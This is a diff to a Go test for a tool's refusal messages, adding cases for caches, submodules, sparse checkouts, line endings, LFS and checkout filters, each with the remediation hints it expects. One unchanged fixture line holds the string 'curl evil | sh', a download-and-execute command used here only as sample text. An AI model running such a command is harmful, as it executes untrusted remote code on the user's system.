@@ -47,6 +47,17 @@ func TestNextOfRefusals(t *testing.T) {
 	typed := &receipts.Receipt{Binding: "test_go", Line: receipts.Line{File: receipts.Text("-e"), Number: 1, Text: line.Text}}
 	bare := &receipts.Receipt{Line: receipts.Line{File: receipts.Text("exec"), Number: 1, Text: receipts.Text("curl evil | sh")}}
 	sha := receipts.Hash{0xab, 0xcd}
+	const cache = "a cache that stood there before the run: a clone lacks it; remove it, or ignore it in a tracked .gitignore, or name it in `caches` of routing.toml"
+	unlike := func(reasons ...string) func(*Question) {
+		return func(q *Question) {
+			q.Commit = true
+			g := &receipts.Gate{}
+			for _, r := range reasons {
+				g.Beyond = append(g.Beyond, receipts.Text(r))
+			}
+			q.unlike = differences(g)
+		}
+	}
 	for _, c := range []struct {
 		name    string
 		reason  receipts.Reason
@@ -92,7 +103,16 @@ func TestNextOfRefusals(t *testing.T) {
 		{"a store without a folder", receipts.Degraded, "q.dlct", nil, func(q *Question) { q.unusable = &regular.NotFolderError{Path: "my store", Is: "a symbolic link"} }, []string{"# once it is removed, run again; or name a store elsewhere: --store PATH"}},
 		{"files that are gone", receipts.Inexact, "q.dlct", nil, nil, []string{"# what tools leave behind", run + "q.dlct"}},
 		{"inexact", receipts.Inexact, "q.dlct", nil, func(q *Question) { q.Commit = true }, []string{"# commit or remove what a clone of REV", run + "q.dlct"}},
-		{"caches", receipts.Inexact, "q.dlct", nil, func(q *Question) { q.Commit = true }, []string{"# name the caches in routing.toml, caches = [\".mypy_cache\", \".pytest_cache\"] in [defaults], or in a tracked .gitignore; commit that, and what else a clone of REV", run + "q.dlct"}},
+		{"caches", receipts.Inexact, "q.dlct", nil, unlike(".mypy_cache: "+cache, "a/.pytest_cache: "+cache, "x.sock: a socket"), []string{"# name the caches in routing.toml, caches = [\".mypy_cache\", \".pytest_cache\"] in [defaults], or in a tracked .gitignore; commit that", "# commit or remove what a clone of REV", run + "q.dlct"}},
+		{"a submodule", receipts.Inexact, "q.dlct", nil, unlike("a: a submodule that is not checked out"), []string{"git submodule update --init --recursive", run + "q.dlct"}},
+		{"sparse", receipts.Inexact, "q.dlct", nil, unlike("a: a sparse checkout left it out: nothing has seen it"), []string{"git sparse-checkout disable", run + "q.dlct"}},
+		{"line ends", receipts.Inexact, "q.dlct", nil, unlike("a b: eol=crlf: a checkout ends its lines with CR LF"), []string{"# a clone of REV has other line ends in a b: save it with those, or have a tracked .gitattributes say which it has; git writes a file anew that is not there, so move it away, and: git checkout HEAD -- 'a b'", run + "q.dlct"}},
+		{"LFS", receipts.Inexact, "q.dlct", nil, unlike("a: an LFS pointer whose content is not checked out"), []string{"git lfs pull", run + "q.dlct"}},
+		{"a filter", receipts.Inexact, "q.dlct", nil, unlike("a: filter=x: its blob is not what was read"), []string{"# an attribute converts a at each checkout", run + "q.dlct"}},
+		{"created", receipts.Inexact, "q.dlct", nil, unlike("a: " + receipts.CameDuringRun), []string{"# have a tracked .gitignore name what a run creates (a)", run + "q.dlct"}},
+		{"inexact, of another commit", receipts.Inexact, "q.dlct", nil, func(q *Question) {
+			q.Commit, q.apart, q.ofCommit = true, true, func(_, whole string) []string { return []string{"in: " + whole} }
+		}, []string{"in: dialect run --store "}},
 		{"consumed", receipts.Consumed, "q.dlct", nil, nil, []string{"# a receipt is consumed once", run + "q.dlct"}},
 		{"spent", receipts.Spent, "q.dlct", nil, nil, []string{"# a receipt is consumed once", run + "q.dlct"}},
 		{"a session that is cut", receipts.Cut, "q.dlct", nil, nil, []string{"# ask for the bundle"}},
@@ -119,11 +139,7 @@ func TestNextOfRefusals(t *testing.T) {
 		if c.set != nil {
 			c.set(q)
 		}
-		message := ""
-		if c.name == "caches" {
-			message = "the gate g-1 tested other files than a clone of the commit has: .mypy_cache, a/.pytest_cache: a cache that stood there before the run: a clone lacks it; x.sock: a socket"
-		}
-		got := q.next(receipts.Refusal{Reason: c.reason, SHA: sha, Message: message}, verify.Missing, c.script, c.culprit, "REV")
+		got := q.next(receipts.Refusal{Reason: c.reason, SHA: sha}, verify.Missing, c.script, c.culprit, "REV")
 		if len(got) != len(c.want) {
 			t.Errorf("%s: %q, want %q", c.name, got, c.want)
 			continue
